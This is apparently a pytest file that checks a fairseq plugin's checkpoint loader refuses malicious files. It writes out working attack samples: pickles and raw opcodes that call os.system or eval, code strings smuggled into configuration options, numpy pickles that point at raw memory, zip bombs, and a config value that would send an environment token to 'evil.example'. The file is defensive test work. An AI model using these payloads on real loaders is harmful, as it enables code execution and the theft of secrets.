"""What an attacker may send as a checkpoint: it would run code, read elsewhere, or fill the memory. All is refused."""

from __future__ import annotations

import importlib
import io
import json
import os
import pickle
import re
import struct
import subprocess
import zipfile
from argparse import Namespace
from pathlib import Path
from typing import Any, Dict

import fairseq
import numpy as np
import pytest
import torch
from fairseq.checkpoint_utils import load_model_ensemble_and_task
from omegaconf import OmegaConf

from fairseq_tg.errors import UserError
from fairseq_tg.loading import data_only
from fairseq_tg.loading.checkpoints import ALLOWED_GLOBALS, EVALUATED_OPTIONS, load_checkpoint
from fairseq_tg.loading.data_only import DataUnpickler
from tests.conftest import USER_DIR, Workspace, run_forked

MARK = "pwned"


class Asks:
    """Unpickles by calling a function."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.call = (function, args)

    def __reduce__(self) -> Any:
        return self.call


class Sets(Namespace):
    """Unpickles by calling a function on a state."""

    def __reduce__(self) -> Any:
        return (Namespace, (), {"a": 1}, None, None, os.system)


ATTACKS = {
    "reduce": Asks(os.system, f"touch {MARK}"),
    "eval": Asks(eval, f"open('{MARK}', 'w')"),
    "process": Asks(subprocess.call, ["touch", MARK]),
    "import": Asks(__import__, "this"),
    "getattr": Asks(getattr, "", "join"),
    "state": Sets(),
    "nested": Namespace(a=[{"b": (Asks(os.system, f"touch {MARK}"),)}]),
    "open": Asks(open, MARK, "w"),
}
#: The functions that they ask for, by the names that protocol 2 gives them
ASKED = r"(?:[\w.]+\.)?(?:system|eval|call|__import__|getattr|open)"
#: Every field of a checkpoint that fairseq reads
PLACES = ["args", "cfg", "model", "extra_state", "optimizer_history", "last_optimizer_state", "task_state", "criterion"]


def harmless_state(path: str) -> Dict[str, Any]:
    """What a checkpoint holds, as fairseq saves it: with a configuration of plain values (it loads another)."""
    state = load_checkpoint(path)
    return {**state, "args": None, "cfg": OmegaConf.to_container(state["cfg"], resolve=True)}


def test_only_what_is_added_is_refused(workspace: Workspace, tmp_path: Path) -> None:
    for zipped in (True, False):
        state = harmless_state(workspace.bases["transformer"])
        torch.save(state, tmp_path / "good.pt", _use_new_zipfile_serialization=zipped)
        assert load_checkpoint(str(tmp_path / "good.pt"))["model"].keys() == state["model"].keys()


@pytest.mark.parametrize("zipped", [True, False])
@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_pickles(workspace: Workspace, tmp_path: Path, monkeypatch: Any, attack: str, place: str, zipped: bool) -> None:
    monkeypatch.chdir(tmp_path)
    state = {**harmless_state(workspace.bases["transformer"]), place: {"x": ATTACKS[attack]}}
    torch.save(state, "evil.pt", _use_new_zipfile_serialization=zipped)
    with pytest.raises(UserError, match=rf"'evil.pt' is refused: its pickle asks for (?:{ASKED}),"):
        load_checkpoint("evil.pt")
    assert not os.path.exists(MARK)


@pytest.mark.parametrize("command", ["fairseq-generate", "fairseq-train"])
def test_the_environment_does_not_make_code_of_data(workspace: Workspace, tmp_path: Path, command: str) -> None:
    """torch lets a variable turn its default off; many people set it, because fairseq alone cannot load otherwise."""
    state = harmless_state(workspace.bases["transformer"])
    state["extra_state"]["x"] = Asks(os.system, f"touch {tmp_path / MARK}")
    torch.save(state, tmp_path / "evil.pt")
    flags = {
        "fairseq-generate": [workspace.data, "--path", tmp_path / "evil.pt", "--gen-subset", "valid"],
        "fairseq-train": [
            *(workspace.data, "--arch", "tg_transformer", "--base-checkpoint", tmp_path / "evil.pt"),
            *("--criterion", "actor_cross_entropy", "--save-dir", tmp_path / "out"),
        ],
    }[command]
    plugin = ["--user-dir", USER_DIR, "--task", "tg_translation"]
    for variable in ("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "TORCH_FORCE_WEIGHTS_ONLY_LOAD"):
        done = run_forked(command, *flags, *plugin, env={variable: "1"})  # it is looked at when a file is read
        assert done.returncode == 1 and "its pickle asks for posix.system" in done.stderr.splitlines()[-1], done.stderr
    assert not (tmp_path / MARK).exists()


#: Options of every part of a configuration, by what fairseq builds of it without being asked to
EVALUATED = {
    "task": ("multilingual_translation", "left_pad_source"),
    "criterion": ("ctc", "wer_args"),
    "optimizer": ("adam", "adam_betas"),
    "distributed_training": (None, "pipeline_balance"),
}
CODE = f"__import__('os').system('touch {MARK}')"


@pytest.mark.parametrize("value", [CODE, CODE.encode(), "${common.tensorboard_logdir}"], ids=["str", "bytes", "named"])
@pytest.mark.parametrize("part", EVALUATED)
def test_no_part_of_a_configuration_is_run(
    workspace: Workspace, tmp_path: Path, monkeypatch: Any, part: str, value: Any
) -> None:
    monkeypatch.chdir(tmp_path)
    name, option = EVALUATED[part]
    state = load_checkpoint(workspace.bases["transformer"])
    config = OmegaConf.to_container(state["cfg"], resolve=True)
    config["common"]["tensorboard_logdir"] = CODE
    config[part] = {**(config[part] or {}), **({"_name": name} if name else {}), option: value}
    if part == "task":
        config[part].update(source_langs=None, lang_pairs="xx-yy", left_pad_target="False", data=workspace.data)
    torch.save({**state, "args": None, "cfg": config}, "evil.pt")
    for load in (lambda: load_checkpoint("evil.pt"), lambda: load_model_ensemble_and_task(["evil.pt"])):
        with pytest.raises(UserError, match=f"'evil.pt' is refused: its option {option} holds code"):
            load()
    assert not os.path.exists(MARK)


@pytest.mark.parametrize("kind", [np.uint8, np.float64])
def test_code_is_not_hidden_in_numbers(workspace: Workspace, tmp_path: Path, monkeypatch: Any, kind: Any) -> None:
    """`eval` takes whatever has bytes inside."""
    harmless, code = (np.frombuffer(text.ljust(64).encode(), kind) for text in ("40 + 2", CODE))
    assert eval(harmless) == 42
    monkeypatch.chdir(tmp_path)
    state = load_checkpoint(workspace.bases["fconv"])
    config = OmegaConf.to_container(state["cfg"], resolve=True)
    config["model"].encoder_layers = code
    torch.save({**state, "args": None, "cfg": config}, "evil.pt")
    with pytest.raises(UserError, match=r"'evil.pt' is refused: its option encoder_layers holds code"):
        load_model_ensemble_and_task(["evil.pt"])
    assert not os.path.exists(MARK)


def test_all_options_that_fairseq_evaluates_are_known() -> None:
    """From fairseq's own source, so that another version's are not forgotten."""
    call = re.compile(r"\b(?:eval|eval_str_list|eval_str_dict|eval_bool)\(\s*(?:self\.)?(?:cfg|args)\.(\w+)")
    sources = [path.read_text() for path in Path(fairseq.__file__).parent.rglob("*.py")]
    found = {name for source in sources for name in call.findall(source)}
    flags = [flag for source in sources for flag in source.split("add_argument(")[1:]]
    evaluated = [flag for flag in flags if re.search(r"type=(?:lambda \w+: )?(?:utils\.)?eval_", flag)]
    parsed = {name.replace("-", "_") for flag in evaluated for name in re.findall(r"^\s*\"--([\w-]+)", flag)}
    assert len(found) > 20 and {"weight_softmax", "langtoks", "decoder_kernel_size_list"} <= parsed
    assert found | parsed <= EVALUATED_OPTIONS


def test_files_that_a_checkpoint_names_are_data(workspace: Workspace, tmp_path: Path, monkeypatch: Any) -> None:
    """Every module of fairseq's that calls torch.load reads data only (but for what ranks send each other)."""
    monkeypatch.setenv("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "1")
    torch.save({"x": Asks(os.system, f"touch {tmp_path / MARK}")}, tmp_path / "evil.pt")
    source = Path(fairseq.__file__).parent
    readers = [
        "fairseq." + ".".join(path.relative_to(source).with_suffix("").parts)
        for path in source.rglob("*.py")
        if "torch.load(" in path.read_text() and "examples" not in path.parts
    ]
    assert "fairseq.checkpoint_utils" in readers
    for name in sorted({*readers} - {"fairseq.distributed.utils"}):
        with pytest.raises(pickle.UnpicklingError):
            importlib.import_module(name).torch.load(tmp_path / "evil.pt")
    assert not (tmp_path / MARK).exists()


#: Opcodes by hand: names with dots, the old INST, a class where a function should be
PROGRAMS = {
    "dotted": b"\x80\x04\x8c\x08argparse\x8c\x15Namespace.__init__\x93.",
    "inst": b"(S'touch pwned'\nios\nsystem\n.",
    "global": b"cposix\nsystem\n(S'touch pwned'\ntR.",
    "stack global": b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0btouch pwned\x85R.",
    "build": b"cbuiltins\ngetattr\n(cos\nsystem\nS'__call__'\ntR.",
}


@pytest.mark.parametrize("program", PROGRAMS)
def test_opcodes(tmp_path: Path, monkeypatch: Any, program: str) -> None:
    """Against the unpickler for the older generation of torch, whichever is installed."""
    monkeypatch.chdir(tmp_path)
    with pytest.raises((pickle.UnpicklingError, ValueError, EOFError)):
        DataUnpickler(io.BytesIO(PROGRAMS[program])).load()
    assert not os.path.exists(MARK)


class Builds(Asks):
    """Unpickles by calling a function and giving what it returns a state."""

    def __init__(self, function: Any, args: Any, state: Any) -> None:
        self.call = (function, args, state)


ADDRESS = struct.pack("Q", 0x41414141)
RECONSTRUCT, SCALAR = np.array(0.0).__reduce__()[0], np.float64(0.0).__reduce__()[0]
OBJECTS, RECORDS = Asks(np.dtype, "O"), Asks(np.dtype, [("a", "O")])


def array_of(kind: Any) -> Builds:
    return Builds(RECONSTRUCT, (np.ndarray, (0,), b"b"), (1, (1,), kind, False, ADDRESS))


#: Pickles that numpy takes for addresses of objects, for places outside of an array, or for any size of memory
ARRAYS = {
    "addresses": Asks(np.ndarray, (1,), OBJECTS, ADDRESS),
    "addresses in records": Asks(np.ndarray, (1,), RECORDS, ADDRESS),
    "no object": Asks(SCALAR, RECORDS),
    "objects without flags": array_of(Builds(np.dtype, ("O", False, True), (3, "|", None, None, None, -1, -1, 0))),
    "objects in numbers": array_of(
        Builds(np.dtype, ("f8", False, True), (3, "<", None, ("a",), {"a": (OBJECTS, 0)}, 8, 8, 0))
    ),
    "a long object": Asks(SCALAR, Asks(np.dtype, "V1000000")),
    "a long array": Asks(np.ndarray, (1 << 20,), OBJECTS),
}


@pytest.mark.parametrize("name", ARRAYS)
def test_arrays_are_of_plain_numbers(workspace: Workspace, tmp_path: Path, monkeypatch: Any, name: str) -> None:
    state = {**harmless_state(workspace.bases["transformer"]), "extra_state": {"x": ARRAYS[name]}}
    torch.save(state, tmp_path / "evil.pt")
    with pytest.raises(UserError, match=r"evil.pt' is refused: its pickle asks for numpy\."):
        load_checkpoint(str(tmp_path / "evil.pt"))
    monkeypatch.setattr(data_only, "TORCH_READS_DATA_ONLY", False)
    data_only.allow(ALLOWED_GLOBALS)  # as with the older generation of torch
    with pytest.raises(pickle.UnpicklingError, match=r"class numpy\."):
        DataUnpickler(io.BytesIO(pickle.dumps(ARRAYS[name], 2))).load()


def test_arrays_of_numbers_are_what_they_were(workspace: Workspace, tmp_path: Path) -> None:
    kinds = ["?", "i1", "i2", "i4", "i8", "u1", "u2", "u4", "u8", "f2", "f4", "f8"]
    arrays = [np.arange(6).astype(kind).reshape(2, 3) for kind in kinds]
    state = {**harmless_state(workspace.bases["transformer"]), "extra_state": {"x": arrays + [a[1, 2] for a in arrays]}}
    state["extra_state"]["x"].append(np.asfortranarray(arrays[0]))
    torch.save(state, tmp_path / "good.pt")
    for found, given in zip(load_checkpoint(str(tmp_path / "good.pt"))["extra_state"]["x"], state["extra_state"]["x"]):
        assert type(found) is type(given) and found.dtype == given.dtype and (found == given).all()


def test_a_view_is_not_larger_than_its_file(workspace: Workspace, tmp_path: Path) -> None:
    """A tensor may repeat one number without end; who adds its bytes up takes memory for them all."""
    state = harmless_state(workspace.bases["transformer"])
    for value, problem in ((torch.zeros(1).expand(1 << 40), "larger than the file"), ("x", "no plain tensor")):
        torch.save({**state, "model": {**state["model"], "x": value}}, tmp_path / "evil.pt")
        with pytest.raises(UserError, match=rf"evil.pt' is no fairseq checkpoint.*its weight x is {problem}"):
            load_checkpoint(str(tmp_path / "evil.pt"))
    for value in (torch.zeros(3, device="meta"), torch.zeros(3).to_sparse()):
        torch.save({**state, "model": {**state["model"], "x": value}}, tmp_path / "evil.pt")
        with pytest.raises(UserError, match=r"evil.pt' is (?:refused|no fairseq checkpoint)"):
            load_checkpoint(str(tmp_path / "evil.pt"))


@pytest.mark.parametrize("lookup", ["http://evil.example/${oc.env:TOKEN}", "${${common.x}:TOKEN}"])
@pytest.mark.parametrize("place", ["cfg", "args", "base"])
def test_a_configuration_does_not_read_the_environment(
    workspace: Workspace, tmp_path: Path, monkeypatch: Any, place: str, lookup: str
) -> None:
    """omegaconf would put a variable of ours where the file says: into an address to fetch, or what is saved next."""
    monkeypatch.setenv("TOKEN", "secret")
    state = load_checkpoint(workspace.bases["transformer"])
    config = OmegaConf.to_container(state["cfg"], resolve=True)
    if place == "base":  # where JSON may hide the sign
        record = json.dumps({"options": {"_name": "transformer", "x": lookup}, "namespace": False, "fingerprint": "0"})
        config["model"] = {"_name": "tg_transformer", "base_record": record.replace("$", "\\u0024"), "actor": "gate"}
    else:
        config["bpe"] = {"_name": "sentencepiece", "sentencepiece_model": lookup}
    args = Namespace(arch="transformer", task="translation", data=lookup) if place == "args" else None
    torch.save({**state, "args": args, "cfg": None if args else config}, tmp_path / "evil.pt")
    with pytest.raises(UserError, match=r"is refused: its option .* asks for something of this machine"):
        load_model_ensemble_and_task([str(tmp_path / "evil.pt")], task=workspace.task())


def rewrite(source: str, target: Path, compression: int, extra: int = 0) -> None:
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", compression) as new:
        for record in old.infolist():
            new.writestr(record.filename, old.read(record))
        if extra:
            new.writestr("archive/data/bomb", b"\0" * extra)


def test_a_zip_bomb(workspace: Workspace, tmp_path: Path) -> None:
    rewrite(workspace.bases["transformer"], tmp_path / "bomb.pt", zipfile.ZIP_DEFLATED, 1 << 26)
    assert (tmp_path / "bomb.pt").stat().st_size < 1 << 20
    with pytest.raises(UserError, match=r"bomb.pt' is no fairseq checkpoint, or a damaged one \(its record"):
        load_checkpoint(str(tmp_path / "bomb.pt"))


def test_records_that_overlap(workspace: Workspace, tmp_path: Path) -> None:
    """One record under many names is larger than the file it is in."""
    content = Path(workspace.bases["transformer"]).read_bytes()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        largest = max(archive.infolist(), key=lambda record: record.file_size)
        archive.filelist += [largest] * 200
        out = io.BytesIO(content)
        archive.fp, archive.mode, archive._didModify = out, "a", True  # type: ignore[assignment]
        out.seek(0, io.SEEK_END)
        archive.start_dir = len(content)
    (tmp_path / "bomb.pt").write_bytes(out.getvalue())
    with pytest.raises(UserError, match=r"bomb.pt' is no fairseq checkpoint, or a damaged one"):
        load_checkpoint(str(tmp_path / "bomb.pt"))
